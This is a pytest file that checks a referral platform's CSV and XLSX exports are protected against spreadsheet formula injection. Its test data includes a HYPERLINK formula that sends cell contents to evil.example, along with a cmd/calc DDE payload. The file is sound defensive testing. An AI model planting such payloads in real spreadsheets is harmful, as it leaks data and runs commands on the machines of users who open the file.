"""Spreadsheet exports: a text a user typed never becomes a formula (OWASP CSV injection);
numbers stay numbers. Every CSV and XLSX writer: the commission's minutes, the indicators."""

from __future__ import annotations

import csv
import io
from datetime import date

import openpyxl
import pytest

from api.mesures.service import aujourdhui
from tests import factories as fab
from tests.factories import Monde, creer_convention, creer_dispositif, orienter

# Sessions are held on a day that exists: not before the referrals they decide were
# received (today), not in the future.
AUJOURDHUI = aujourdhui().isoformat()

LIEN = '=HYPERLINK("https://evil.example/?d="&A2,"Ouvrir")'
# One text per character a spreadsheet starts a formula with (tab and CR before one).
PIEGES = [LIEN, "+1+cmd|' /C calc'!A0", "-2+3", "@SOMME(A1:A9)", "\t=1+1", "\r=1+1"]


def _sans_danger(texte: str) -> bool:
    return not texte.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_the_rule() -> None:
    from api.core.tableur import neutraliser

    for piege in PIEGES:
        assert neutraliser(piege) == "'" + piege
    for sur in ("Association Espoir 35", "a=b", "", "'=déjà neutralisé"):
        assert neutraliser(sur) == sur
    for nombre in (-3, 2.5, 0, None, date(2026, 3, 10)):
        assert neutraliser(nombre) == nombre


def test_minutes_csv_neutralise_comments_and_names(client, monde: Monde, db) -> None:
    monde.bailleur.nom = PIEGES[1]
    monde.asso.nom = PIEGES[2]
    db.add_all([monde.bailleur, monde.asso])
    db.flush()
    d = creer_dispositif(client, monde)
    creer_convention(client, monde, d["id"])
    os_ = [orienter(client, monde, d["id"]) for _ in range(2)]
    s = client.post(
        "/api/v1/commissions",
        json={"dispositif_id": d["id"], "date": AUJOURDHUI, "lieu": "Rennes"},
        headers=monde.h("gie"),
    ).json()
    client.post(
        f"/api/v1/commissions/{s['id']}/ordre-du-jour",
        json={"orientation_ids": [o["id"] for o in os_]},
        headers=monde.h("gie"),
    )
    r = client.post(
        f"/api/v1/commissions/{s['id']}/decisions",
        json={
            "decisions": [
                {
                    "orientation_id": os_[0]["id"],
                    "vers_statut": "acceptee",
                    "association_id": str(monde.asso.id),
                    "cible_code": "reassurance_locataire",
                    "type_accompagnement_code": "evaluation",
                    "commentaire": LIEN,
                },
                {
                    "orientation_id": os_[1]["id"],
                    "vers_statut": "refusee",
                    "motif_refus": "territoire_non_couvert",
                    "commentaire": PIEGES[3],
                },
            ]
        },
        headers=monde.h("gie"),
    )
    assert r.status_code == 200, r.text
    pv = client.get(f"/api/v1/commissions/{s['id']}/proces-verbal.csv", headers=monde.h("gie"))
    assert pv.status_code == 200
    rows = list(csv.reader(io.StringIO(pv.content.decode("utf-8-sig")), delimiter=";"))
    par_ref = {row[2]: row for row in rows[1:]}
    accepte, refuse = par_ref[os_[0]["reference"]], par_ref[os_[1]["reference"]]
    assert accepte[14] == "'" + LIEN  # commentaire
    assert accepte[5] == "'" + PIEGES[1]  # prescripteur
    assert accepte[10] == "'" + PIEGES[2]  # association mandatée
    assert refuse[14] == "'" + PIEGES[3]
    assert all(_sans_danger(cell) for row in rows for cell in row)
    assert accepte[8] == aujourdhui().strftime("%d/%m/%Y")  # the rest as it was


@pytest.fixture
def indicateurs_pieges(db, monde: Monde) -> None:
    """Indicators whose labels carry typed text: the prescriber's name and a target's label."""
    monde.bailleur.nom = LIEN
    db.add(monde.bailleur)
    db.flush()
    d = fab.dispositif(db, monde, cibles=[("piege", PIEGES[3], False), ("autre", "Autre", False)])
    for jour in (2, 3, 4):
        men = fab.menage(db, monde, organisation=monde.bailleur)
        fab.orientation(db, monde, men, d, reception=date(2020, 1, jour), statut="soumise")
        fab.mesure(db, monde, d, men=men, mandatement=date(2020, 1, jour), cible="piege", statut="active")


def test_indicators_csv_neutralise_labels_and_keep_numbers(client, monde: Monde, indicateurs_pieges) -> None:
    r = client.get(
        "/api/v1/indicateurs",
        params={"du": "2020-01-01", "au": "2020-03-31", "format": "csv"},
        headers=monde.h("gie"),
    )
    assert r.status_code == 200, r.text
    rows = list(csv.reader(io.StringIO(r.text.lstrip("\ufeff")), delimiter=";"))
    assert all(_sans_danger(cell) for row in rows for cell in row)
    (presc,) = [x for x in rows if x[0] == "orientations_prescripteur" and x[4] == "'" + LIEN]
    assert presc[9] == "3"  # the value: a plain number
    (cible,) = [x for x in rows if x[0] == "file_active_cible" and x[5] == "piege"]
    assert cible[4] == "'" + PIEGES[3]
    assert cible[9] == "3"


def test_indicators_xlsx_neutralise_labels_and_keep_numbers(client, monde: Monde, indicateurs_pieges) -> None:
    r = client.get(
        "/api/v1/indicateurs",
        params={"du": "2020-01-01", "au": "2020-03-31", "format": "xlsx"},
        headers=monde.h("gie"),
    )
    assert r.status_code == 200, r.text
    wb = openpyxl.load_workbook(io.BytesIO(r.content))
    cellules = [c for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cellules if c.data_type == "f"] == []  # no formula at all
    textes = [c.value for c in cellules if isinstance(c.value, str)]
    assert all(_sans_danger(t) for t in textes)
    assert "'" + LIEN in textes and "'" + PIEGES[3] in textes
    ws = next(ws for ws in wb if "orientations_prescripteur" in ws.title)
    (ligne,) = [row for row in ws.iter_rows() if row[0].value == "'" + LIEN]
    assert ligne[1].value == 3 and ligne[1].data_type == "n"  # numbers stay numbers
